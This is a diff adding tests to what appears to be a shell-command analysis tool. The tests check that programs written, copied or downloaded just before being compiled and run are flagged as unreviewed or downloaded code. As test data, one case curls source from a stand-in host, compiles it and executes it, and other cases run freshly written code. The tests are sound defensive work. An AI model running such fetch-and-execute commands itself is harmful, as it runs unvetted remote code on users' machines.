@@ -155,3 +155,22 @@ describe('scripts of a project', () => {
     expect(actions('npm run constructor', { files: { '/repo/package.json': '{"scripts":{}}' } })).toEqual(['pkg:script'])
   })
 })
+
+describe('programs that the call itself compiles', () => {
+  const opaque = (text: string) => facts(text, WORLD).effects.some((item) => item.verb === 'opaque')
+  for (const [text, expected] of [
+    ['gcc -o app main.c && ./app', false],
+    ['g++ -std=c++20 -o app main.cpp; ./app --all', false],
+    ['rustc main.rs -o app && ./app', false],
+    ['go build -o bin/app . && ./bin/app', false],
+    // what is compiled was written a moment ago: nobody has looked at it
+    ["echo 'int main(){}' > main.c; gcc -o app main.c && ./app", true],
+    ['cp /srv/main.c main.c; gcc -o app main.c && ./app', true],
+    ['make-something > app; ./app', true],
+  ] as const)
+    test(text, () => expect(opaque(text)).toBe(expected))
+
+  test('what came from the network stays what it is', () => {
+    expect(actions('curl -o main.c https://x.example/main.c; gcc -o app main.c && ./app', WORLD)).toContain('code:downloaded')
+  })
+})
